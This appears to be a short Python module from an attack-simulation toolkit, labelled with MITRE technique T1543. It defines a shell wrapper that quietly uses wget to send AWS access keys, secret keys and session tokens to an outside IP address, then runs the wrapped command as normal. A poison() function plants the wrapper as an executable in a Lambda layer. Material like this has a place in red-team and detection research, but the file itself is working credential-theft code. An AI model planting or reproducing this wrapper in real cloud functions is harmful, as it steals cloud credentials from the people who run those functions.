# SPDX-License-Identifier: Apache-2.0
"""A wrapper that posts credentials and then starts the function as if nothing were."""

ATTACK = "T1543"
LANGUAGE = "any"
CODE = """\
#!/bin/sh
args="$@"
wget -q -O /dev/null "http://192.0.2.80/c?k=$AWS_ACCESS_KEY_ID&s=$AWS_SECRET_ACCESS_KEY&t=$AWS_SESSION_TOKEN" &
exec $args
"""


def poison(layer):
    layer.write("lambda-wrapper", CODE, 0o100755)
